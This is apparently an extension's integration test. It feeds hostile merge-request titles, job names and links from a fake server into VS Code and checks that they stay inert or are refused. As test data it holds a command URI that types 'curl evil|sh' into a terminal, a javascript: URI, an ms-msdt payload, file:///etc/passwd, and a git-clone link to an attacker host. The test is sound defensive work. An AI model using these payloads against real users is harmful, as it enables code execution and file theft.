// Server text reaches the user through one door, and server links open only if they are web links
// (docs/security.md). Inside a real VS Code: commands run on refs built from what the fake forge
// sends, with hostile titles, job names and links; every message the door shows is read back
// through the extension's API and must carry the server's text with no link and no icon in it.
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import type { ForgeWorkbenchApi } from '../../src/extension';
import type { AccountInfo } from '../../src/platform/accounts';
import type { ShownMessage } from '../../src/platform/userMessages';
import { type FakeForge, startFakeForge } from '../server';
import { childrenOf, label, workbenchApi } from './support';

// VS Code's own patterns: notification links (parseLinkedText) and icons in labels (iconLabels).
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const DRAWN_ICON = /(?<!\\)\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g;

const COMMAND_LINK =
  '[View diff](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
const ICON_AND_LINK = '$(check) deploy [docs](https://evil.example/) $(loading~spin)';

function assertInert(messages: readonly ShownMessage[], serverText: string): void {
  const text = messages.map((message) => `${message.text}\n${message.detail ?? ''}`).join('\n');
  assert.ok(
    text
      .replace(/\u200B/g, '')
      .replace(/\\\$\(/g, '$(')
      .includes(serverText),
    `the server's text reached a message: ${text}`,
  );
  assert.deepEqual([...text.matchAll(NOTIFICATION_LINK)].map(String), [], 'no link VS Code would open');
  assert.deepEqual([...text.matchAll(DRAWN_ICON)].map(String), [], 'no icon VS Code would draw');
}

describe('the message door and server links', function () {
  this.timeout(30_000);
  let forge: FakeForge;
  let api: ForgeWorkbenchApi;
  let account: AccountInfo;
  let observing: vscode.Disposable;
  const shown: ShownMessage[] = [];

  before(async () => {
    forge = await startFakeForge({ seed: 'small' });
    api = await workbenchApi();
    account = await api.accounts.add({
      serverUrl: forge.url,
      token: forge.userToken,
      tokenKind: 'private-token',
    });
    observing = api.messages.observe((message) => shown.push(message));
  });

  beforeEach(() => {
    shown.length = 0;
  });

  after(async () => {
    observing.dispose();
    await api.accounts.remove(account.id);
    await forge.close();
  });

  async function jobRef(jobId: number, change: Record<string, unknown> = {}): Promise<unknown> {
    const client = await api.accounts.client(account.id);
    const web = forge.fixtures.projects.web;
    return {
      kind: 'forge.jobRef',
      accountId: account.id,
      project: await client.getProject(web),
      job: { ...(await client.getJob(web, jobId)), ...change },
    };
  }

  it('closes and reopens a merge request titled with a command link: the notification shows it as text', async () => {
    const web = forge.fixtures.projects.web;
    const iid = forge.fixtures.mergeRequests.opened;
    const stored = forge.state.findMergeRequest(web, iid);
    assert.ok(stored);
    const title = stored.title;
    stored.title = COMMAND_LINK;
    try {
      const client = await api.accounts.client(account.id);
      const ref = {
        kind: 'forge.mergeRequestRef',
        account,
        project: await client.getProject(web),
        mergeRequest: await client.getMergeRequest(web, iid),
      };
      const closed = await vscode.commands.executeCommand<{ state: string }>('forge.mergeRequest.close', ref);
      assert.equal(closed?.state, 'closed');
      assertInert(shown, COMMAND_LINK);
      shown.length = 0;
      await vscode.commands.executeCommand('forge.mergeRequest.reopen', ref);
      assertInert(shown, COMMAND_LINK);
    } finally {
      stored.title = title;
    }
  });

  it('retries a job named with icon syntax and a link: progress and result messages are inert', async () => {
    const job = forge.state.jobs.get(forge.fixtures.jobs.failed);
    assert.ok(job);
    const name = job.name;
    job.name = ICON_AND_LINK;
    try {
      await vscode.commands.executeCommand('forge.job.retry', await jobRef(job.id));
      assert.ok(
        shown.some((message) => message.severity === 'information'),
        'a result was shown',
      );
      assertInert(shown, ICON_AND_LINK);
    } finally {
      job.name = name;
    }
  });

  for (const link of [
    'file:///etc/passwd',
    'vscode://vscode.git/clone?url=https%3A%2F%2Fevil.example%2Fx.git',
    'command:workbench.action.terminal.new',
    'javascript:alert(1)',
    'ms-msdt:/id PCWDiagnostic /skip force',
    'x-forge-evil://open',
  ]) {
    it(`does not open a job's web link ${link.split(':')[0]}:, and says which link it refused`, async () => {
      const opened = await vscode.commands.executeCommand<string | undefined>(
        'forge.job.openInBrowser',
        await jobRef(forge.fixtures.jobs.success, { web_url: link }),
      );
      assert.equal(opened, undefined, 'nothing was opened');
      const refusal = shown.find((message) => message.severity === 'error');
      assert.ok(refusal, 'an error names the refused link');
      assert.ok(refusal.text.includes(link.replace(/\]\(/g, ']\u200B(')), refusal.text);
      assert.match(refusal.text, /only http and https/);
    });
  }

  it("does not open a todo whose target is not a web link (the row's own click)", async () => {
    const [accountRow] = await childrenOf(api.todos);
    const rows = await childrenOf(api.todos, api.accounts.list().length > 1 ? accountRow?.node : undefined);
    const todo = rows.find((row) => row.item.command?.command === 'forge.todo.openInBrowser');
    assert.ok(
      todo,
      `a todo row opens through the link check: ${rows.map((row) => label(row.item)).join(', ')}`,
    );
    // As a server would send it: the todo's target is a command URI.
    (todo.node as unknown as { todo: { target_url?: string } }).todo.target_url =
      'command:workbench.action.terminal.new';
    const opened = await vscode.commands.executeCommand<boolean>(
      'forge.todo.openInBrowser',
      ...((todo.item.command?.arguments ?? []) as unknown[]),
    );
    assert.equal(opened, false);
    assert.ok(shown.some((message) => message.severity === 'error' && message.text.includes('command:')));
    api.todos.refresh();
  });
});
